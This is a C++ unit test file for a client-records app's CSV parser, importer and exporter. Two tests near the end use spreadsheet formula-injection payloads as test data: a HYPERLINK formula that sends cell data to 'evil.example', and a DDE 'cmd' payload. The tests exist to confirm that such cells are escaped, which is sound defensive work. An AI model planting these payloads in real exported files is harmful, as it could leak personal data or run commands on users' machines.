#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "nourish/core/ClientCsv.h"
#include "nourish/core/Csv.h"
#include "nourish/core/Errors.h"
#include "support/TempDir.h"

using namespace nourish;

namespace {
std::vector<std::vector<std::string>> rows(const std::string& text) {
    std::vector<std::vector<std::string>> out;
    for (auto& r : parseCsv(text).records) out.push_back(r.fields);
    return out;
}
}  // namespace

TEST(Csv, QuotesCommasNewlinesAndCrlf) {
    auto doc = parseCsv("a,\"b,c\",\"say \"\"hi\"\"\"\r\n\"multi\nline\",x,\r\n");
    ASSERT_TRUE(doc.problems.empty());
    ASSERT_EQ(doc.records.size(), 2u);
    EXPECT_EQ(doc.records[0].fields, (std::vector<std::string>{"a", "b,c", "say \"hi\""}));
    EXPECT_EQ(doc.records[1].fields, (std::vector<std::string>{"multi\nline", "x", ""}));
    EXPECT_EQ(doc.records[1].line, 2u);
}

TEST(Csv, BomIsSkippedAndBlankLinesIgnored) {
    EXPECT_EQ(rows("\xEF\xBB\xBFname\n\nZoë\n"), (std::vector<std::vector<std::string>>{{"name"}, {"Zoë"}}));
}

TEST(Csv, LineNumbersCountLinesInsideQuotedFields) {
    auto doc = parseCsv("h\n\"a\nb\nc\"\nnext\n");
    ASSERT_EQ(doc.records.size(), 3u);
    EXPECT_EQ(doc.records[2].line, 5u);
}

TEST(Csv, StrayQuotesAreProblemsWithTheirLine) {
    auto unclosed = parseCsv("a,b\n\"never closed,x\n");
    ASSERT_FALSE(unclosed.problems.empty());
    EXPECT_EQ(unclosed.problems[0].line, 2u);
    auto inside = parseCsv("a,b\nx,y\"z\n");
    ASSERT_FALSE(inside.problems.empty());
    EXPECT_EQ(inside.problems[0].line, 2u);
    auto after = parseCsv("\"a\"b,c\n");
    ASSERT_FALSE(after.problems.empty());
}

TEST(Csv, WriterRoundTrips) {
    std::vector<std::string> fields{"\xEF\xBB\xBFstarts with a byte order mark", "plain", "with,comma",
                                    "with \"quote\"", "two\r\nlines", " padded ", ""};
    auto doc = parseCsv(csvLine(fields));
    ASSERT_EQ(doc.records.size(), 1u);
    EXPECT_EQ(doc.records[0].fields, fields);
}

namespace {
class ClientCsvTest : public ::testing::Test {
protected:
    void SetUp() override { store = std::make_unique<Store>(dir / "n.db"); }
    std::vector<std::string> refused(const std::string& csv) {
        try {
            ClientCsv(*store).import(csv, actor);
        } catch (const CsvImportError& e) {
            EXPECT_EQ(ClientStore(*store).count(), 0) << "a refused import wrote something";
            return e.problems();
        }
        ADD_FAILURE() << "the import was accepted";
        return {};
    }
    nourish::test::TempDir dir;
    std::unique_ptr<Store> store;
    Actor actor{"claire", "test"};
};
}  // namespace

TEST_F(ClientCsvTest, ColumnsInAnyOrderWithGuardians) {
    auto report = ClientCsv(*store).import(
        "date_of_birth,guardian_1_email,family_name,given_name,guardian_1_name,guardian_1_email_consent\n"
        "2025-03-01,hanna@example.org,Müller,Zoë,Hanna Müller,yes\n"
        "2024-01-15,,\"O'Brien, Jr\",\"Dan \"\"the man\"\"\",,\n",
        actor);
    ASSERT_EQ(report.ids.size(), 2u);
    Client zoe = ClientStore(*store).get(report.ids[0]);
    EXPECT_EQ(zoe.givenName, "Zoë");
    ASSERT_EQ(zoe.guardians.size(), 1u);
    EXPECT_TRUE(zoe.guardians[0].emailConsent);
    Client dan = ClientStore(*store).get(report.ids[1]);
    EXPECT_EQ(dan.familyName, "O'Brien, Jr");
    EXPECT_EQ(dan.givenName, "Dan \"the man\"");
    EXPECT_TRUE(dan.guardians.empty());
    EXPECT_EQ(ClientStore(*store).search("mül", 10).size(), 1u) << "imported clients are searchable";
    EXPECT_TRUE(store->check().ok());
}

TEST_F(ClientCsvTest, AnyBadRowRefusesEverythingAndNamesLineAndColumn) {
    auto problems = refused(
        "given_name,family_name,date_of_birth,guardian_1_name,guardian_1_email\n"
        "Zoë,Müller,2025-03-01,Hanna,hanna@example.org\n"
        "Bad,Date,2025-13-45,,\n"
        ",NoName,2024-01-01,,\n"
        "Mail,Bad,2024-01-01,Mum,not-an-email\n");
    ASSERT_EQ(problems.size(), 3u);
    EXPECT_EQ(problems[0], "line 3, column date_of_birth: '2025-13-45' is not a date (use YYYY-MM-DD)");
    EXPECT_EQ(problems[1], "line 4, column given_name: must not be empty");
    EXPECT_EQ(problems[2], "line 5, column guardian_1_email: 'not-an-email' is not an email address");
}

TEST_F(ClientCsvTest, StructuralProblemsAreNamed) {
    EXPECT_EQ(refused("given_name,family_name\nA,B\n").front(), "line 1: the required column date_of_birth is missing");
    EXPECT_EQ(refused("given_name,family_name,date_of_birth,shoe_size\nA,B,2024-01-01,3\n").front().rfind(
                  "line 1, column shoe_size: is not a column", 0),
              0u);
    EXPECT_EQ(refused("given_name,family_name,date_of_birth\nA,B\n").front(),
              "line 2: has 2 fields, the header has 3");
    EXPECT_EQ(refused("given_name,family_name,date_of_birth\nA,\"B,2024-01-01\n").front(),
              "line 2: a quoted field is never closed (a stray quote?)");
    EXPECT_EQ(refused("given_name,family_name,date_of_birth,health_data_consent\nA,B,2024-01-01,maybe\n").front(),
              "line 2, column health_data_consent: 'maybe' is not yes or no");
    EXPECT_EQ(refused("").front(), "line 1: the file is empty (a header row is needed)");
    EXPECT_EQ(refused("given_name,family_name,date_of_birth\n\xff\xfe,B,2024-01-01\n").front(),
              "the file is not UTF-8 text (save it as UTF-8 CSV)");
}

TEST_F(ClientCsvTest, DuplicatesAreReportedNotDoubled) {
    std::string csv = "given_name,family_name,date_of_birth,guardian_1_name,guardian_1_email\n"
                      "Zoë,Müller,2025-03-01,Hanna,hanna@example.org\n";
    ClientCsv(*store).import(csv, actor);
    try {
        ClientCsv(*store).import(csv, actor);
        FAIL();
    } catch (const CsvImportError& e) {
        EXPECT_NE(e.problems().front().find("already client #1"), std::string::npos) << e.problems().front();
    }
    auto sameFile = ClientCsv(*store).parse("given_name,family_name,date_of_birth\nA,B,2024-01-01\na,b,2024-01-01\n");
    EXPECT_EQ(sameFile.duplicates.size(), 1u);
    auto report = ClientCsv(*store).import(csv, actor, /*skipDuplicates=*/true);
    EXPECT_TRUE(report.ids.empty());
    EXPECT_EQ(report.skipped.size(), 1u);
    EXPECT_EQ(ClientStore(*store).count(), 1);
}

TEST_F(ClientCsvTest, ExportThenImportIntoAnEmptyStore_ReproducesClientsAndGuardians) {
    Client c;
    c.givenName = "Zoë";
    c.familyName = "Müller; \"quoted\"";
    c.preferredName = "Zo";
    c.dateOfBirth = "2025-03-01";
    c.sex = "female";
    c.healthDataConsent = true;
    c.healthDataConsentBy = "Hanna";
    c.guardians.push_back(Guardian{0, "Hanna", std::string("mother"), std::string("h@example.org"),
                                   std::string("+44 1"), true, {}, std::string("Hanna")});
    c.guardians.push_back(Guardian{0, "Jonas", std::string("father"), {}, {}, false, {}, {}});
    ClientStore(*store).create(c, actor);
    Client archived;
    archived.givenName = "Old";
    archived.familyName = "Client";
    archived.dateOfBirth = "2015-01-01";
    archived.status = "archived";
    ClientStore(*store).create(archived, actor);
    std::string csv = ClientCsv(*store).exportText(StatusFilter::All, actor);

    Store empty(dir / "empty.db");
    ClientCsv(empty).import(csv, actor);
    auto strip = [](Client x) {
        x.id = 0;
        x.createdAt = x.updatedAt = "";
        x.healthDataConsentAt.reset();
        for (auto& g : x.guardians) g.id = 0, g.emailConsentAt.reset();
        return toJson(x);
    };
    auto before = ClientStore(*store).list(StatusFilter::All);
    auto after = ClientStore(empty).list(StatusFilter::All);
    ASSERT_EQ(before.size(), after.size());
    for (size_t i = 0; i < before.size(); ++i)
        EXPECT_EQ(strip(ClientStore(*store).get(before[i].id)), strip(ClientStore(empty).get(after[i].id)));
}

TEST(Csv, CellsASpreadsheetWouldRunAsFormulas_AreTextAndComeBackExactly) {
    for (std::string formula : {"=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")", "+cmd|' /C calc'!A0",
                                "@SUM(1+1)", "-2+3", "\t=1", "\r=1"}) {
        std::string cell = csvCell(formula);
        EXPECT_EQ(cell, "'" + formula);
        EXPECT_EQ(csvCellValue(cell), formula);
    }
    for (std::string plain : {"Zoë", "O'Brien", "'", "''", "'=x", "''+44", "", "a=b", "נועה"})
        EXPECT_EQ(csvCellValue(csvCell(plain)), plain) << plain;
    EXPECT_EQ(csvCell("O'Brien"), "O'Brien");
    EXPECT_EQ(csvCell("'=x"), "''=x") << "a leading apostrophe of the value itself is kept";
}

TEST_F(ClientCsvTest, FormulaNamesAreExportedAsText_AndImportedBackExactly) {
    std::vector<std::string> names{"=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")", "+cmd|' /C calc'!A0",
                                   "@SUM(1+1)", "-2+3", "'=already quoted"};
    for (const std::string& n : names) {
        Client c;
        c.givenName = n;
        c.familyName = "Test";
        c.dateOfBirth = "2024-01-01";
        ClientStore(*store).create(c, actor);
    }
    std::string csv = ClientCsv(*store).exportText(StatusFilter::All, actor);
    auto doc = parseCsv(csv);
    ASSERT_EQ(doc.records.size(), names.size() + 1);
    for (size_t r = 1; r < doc.records.size(); ++r)
        for (const std::string& field : doc.records[r].fields)
            if (!field.empty())
                EXPECT_EQ(std::string("=+-@\t\r").find(field[0]), std::string::npos) << "a formula cell: " << field;
    Store other(dir / "other.db");
    ClientCsv(other).import(csv, actor);
    std::vector<std::string> back;
    for (auto& s : ClientStore(other).list(StatusFilter::All)) back.push_back(ClientStore(other).get(s.id).givenName);
    std::sort(back.begin(), back.end());
    std::sort(names.begin(), names.end());
    EXPECT_EQ(back, names);
}
